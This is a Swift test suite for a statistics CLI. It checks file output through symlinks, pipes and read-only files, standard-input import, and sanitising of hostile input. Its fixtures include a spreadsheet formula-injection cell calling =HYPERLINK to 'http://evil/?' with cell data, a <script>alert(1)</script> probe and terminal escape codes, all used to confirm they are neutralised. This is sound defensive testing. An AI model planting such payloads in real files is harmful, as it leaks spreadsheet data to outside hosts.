import Foundation
import Testing

/// What `--out`, standard input and spreadsheets do with hostile files and cells.
@Suite struct FilesTests {
  let directory = CLIRunner.scratch()
  var db: String { directory.appendingPathComponent("db.sqlite").path }

  func run(_ arguments: [String], stdin: URL? = nil) throws -> CLIRunner.Result {
    try CLIRunner.run(arguments + ["--db", db], in: directory, stdin: stdin)
  }

  func path(_ name: String) -> String { directory.appendingPathComponent(name).path }

  func initialise(empty: Bool = false) throws {
    let result = try run(["init"] + (empty ? ["--empty"] : []))
    try #require(result.status == 0, "\(result.stderr)")
  }

  @Test func outWritesThroughASymbolicLink() throws {
    try initialise()
    try Data("old\n".utf8).write(to: URL(fileURLWithPath: path("target.csv")))
    try FileManager.default.createSymbolicLink(atPath: path("link.csv"), withDestinationPath: "target.csv")
    let result = try run(["export", "gdp", "--out", "link.csv"])
    #expect(result.status == 0, "\(result.stderr)")
    #expect(try FileManager.default.destinationOfSymbolicLink(atPath: path("link.csv")) == "target.csv")
    #expect(try String(contentsOfFile: path("target.csv"), encoding: .utf8).contains("gdp,mianyang,"))
  }

  @Test func outWritesIntoANamedPipe() throws {
    try initialise()
    #expect(mkfifo(path("pipe"), 0o600) == 0)
    let received = DataBox()
    let reader = Thread {
      received.data = FileHandle(forReadingAtPath: self.path("pipe"))!.readDataToEndOfFile()
    }
    reader.start()
    let result = try run(["export", "gdp", "--out", "pipe"])
    #expect(result.status == 0, "\(result.stderr)")
    while !reader.isFinished { usleep(10_000) }
    #expect(String(decoding: received.data, as: UTF8.self).contains("gdp,mianyang,"))
    var info = stat()
    #expect(lstat(path("pipe"), &info) == 0 && info.st_mode & S_IFMT == S_IFIFO, "the pipe is still a pipe")
  }

  @Test func outRefusesAReadOnlyFileAndKeepsAnOwnFilesMode() throws {
    try initialise()
    try Data("keep\n".utf8).write(to: URL(fileURLWithPath: path("ro.csv")))
    chmod(path("ro.csv"), 0o444)
    let refused = try run(["export", "gdp", "--out", "ro.csv"])
    #expect(refused.status == 1)
    #expect(refused.stderr.contains("cannot write ro.csv: the file is read-only"))
    #expect(try String(contentsOfFile: path("ro.csv"), encoding: .utf8) == "keep\n")

    try Data("old\n".utf8).write(to: URL(fileURLWithPath: path("mine.csv")))
    chmod(path("mine.csv"), 0o640)
    let replaced = try run(["export", "gdp", "--out", "mine.csv"])
    #expect(replaced.status == 0)
    let mode = try FileManager.default.attributesOfItem(atPath: path("mine.csv"))[.posixPermissions] as? Int
    #expect(mode == 0o640)
    let leftovers = try FileManager.default.contentsOfDirectory(atPath: directory.path).filter { $0.hasSuffix(".tmp") }
    #expect(leftovers.isEmpty)
  }

  @Test func importReadsStandardInputAndDevStdin() throws {
    try initialise()
    let input = directory.appendingPathComponent("in.csv")
    try Data("indicator,region,period,value,unit\ngdp,mianyang,2030,7000,亿元\n".utf8).write(to: input)
    let dash = try run(["import", "-"], stdin: input)
    #expect(dash.status == 0, "\(dash.stderr)")
    #expect(dash.stderr.contains("<stdin>: 1 added"))
    try Data("indicator,region,period,value,unit\ngdp,mianyang,2031,7100,亿元\n".utf8).write(to: input)
    let device = try run(["import", "/dev/stdin"], stdin: input)
    #expect(device.status == 0, "\(device.stderr)")
    #expect(device.stderr.contains("/dev/stdin: 1 added"))
  }

  /// Cells that would run as Excel formulas are neutralized on export and restored on import:
  /// export → import → export gives the same bytes, and numbers are never prefixed.
  @Test func formulaCellsAreNeutralizedAndTheRoundTripIsExact() throws {
    try initialise(empty: true)
    let hostile = """
      indicator,region,period,value,unit,source,source_url,locator,note
      formula_test,mianyang,2021,-5,个,"=HYPERLINK(""http://evil/?""&A1,""x"")",@evil,+1+2,-minus
      formula_test,mianyang,2022,-0.25,个,'=already quoted,'-x,''+2,plain
      formula_test,mianyang,2023,3,个,-1.5,+7,"-2e-7",'

      """
    try Data(hostile.utf8).write(to: URL(fileURLWithPath: path("hostile.csv")))
    let imported = try run(["import", "hostile.csv"])
    #expect(imported.status == 0, "\(imported.stderr)")
    let first = try run(["export", "formula_test", "--all-vintages", "--no-bom"])
    #expect(first.status == 0)
    let lines = first.stdout.split(separator: "\r\n").map(String.init)
    #expect(lines[1].hasPrefix("formula_test,mianyang,2021,-5,个,"))  // a negative number is a number
    #expect(lines[1].contains(",\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",'@evil,"))
    #expect(lines[1].contains(",'+1+2,'-minus"))
    // A hand-written leading apostrophe is Excel's "text" mark too: taken off on import, put back on export.
    #expect(lines[2].contains(",'=already quoted,'-x,,,''+2,plain"))
    #expect(lines[3].contains(",-1.5,+7,,,-2e-7,'"))  // plain numbers in text columns stay as they are

    let second = CLIRunner.scratch().appendingPathComponent("db2.sqlite").path
    #expect(try CLIRunner.run(["init", "--empty", "--db", second]).status == 0)
    try Data(first.stdout.utf8).write(to: URL(fileURLWithPath: path("exported.csv")))
    let reimported = try CLIRunner.run(["import", path("exported.csv"), "--db", second])
    #expect(reimported.status == 0, "\(reimported.stderr)")
    let again = try CLIRunner.run(["export", "formula_test", "--all-vintages", "--no-bom", "--db", second])
    #expect(again.stdout == first.stdout)
    let show = try CLIRunner.run(["show", "formula_test", "--format", "json", "--db", second])
    #expect(show.stdout.contains("\"source\": \"=HYPERLINK("))  // stored as written
  }

  @Test func markdownAndTerminalOutputCarryNoMarkupOrEscapes() throws {
    try initialise(empty: true)
    let text = "indicator,region,period,value,unit,source,locator\nmarkup_test,mianyang,2021,1,个,<script>alert(1)</script> a|b,\u{1B}[31mred\u{1B}[0m\u{7}\n"
    try Data(text.utf8).write(to: URL(fileURLWithPath: path("markup.csv")))
    #expect(try run(["import", "markup.csv"]).status == 0)
    let markdown = try run(["show", "markup_test", "--format", "markdown"])
    #expect(markdown.stdout.contains("&lt;script&gt;alert(1)&lt;/script&gt; a\\|b"))
    #expect(!markdown.stdout.contains("<script>"))
    let history = try run(["history", "markup_test", "2021"])
    #expect(history.status == 0)
    #expect(!history.stdout.contains("\u{1B}") && !history.stdout.contains("\u{7}"))
    #expect(history.stdout.contains("<script>"))  // plain text keeps the text, without control characters
    let show = try run(["show", "markup_test"])
    #expect(!show.stdout.contains("\u{1B}") && show.stdout.contains("[31mred[0m"))
  }

  /// Run as another user, a database in a folder that user cannot write gets a message saying so.
  @Test(.enabled(if: getuid() == 0 && FileManager.default.isExecutableFile(atPath: "/usr/bin/setpriv")))
  func readOnlyFolderIsNamed() throws {
    try initialise()
    chmod(directory.path, 0o755)
    func show() throws -> (Int32, String) {
      let process = Process()
      process.executableURL = URL(fileURLWithPath: "/usr/bin/setpriv")
      process.arguments = ["--reuid=65534", "--regid=65534", "--clear-groups", CLIRunner.binary.path, "show", "gdp", "--db", db]
      let err = Pipe()
      process.standardError = err
      process.standardOutput = Pipe()
      try process.run()
      let message = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
      process.waitUntilExit()
      return (process.terminationStatus, message)
    }
    chmod(db, 0o644)
    let file = try show()
    #expect(file.0 == 1)
    #expect(file.1.contains("the database file is read-only for you"), "\(file.1)")
    chmod(db, 0o666)
    let folder = try show()
    #expect(folder.0 == 1)
    #expect(folder.1.contains("its folder \(directory.path) is read-only for you"), "\(folder.1)")
  }
}

private final class DataBox: @unchecked Sendable {
  var data = Data()
}
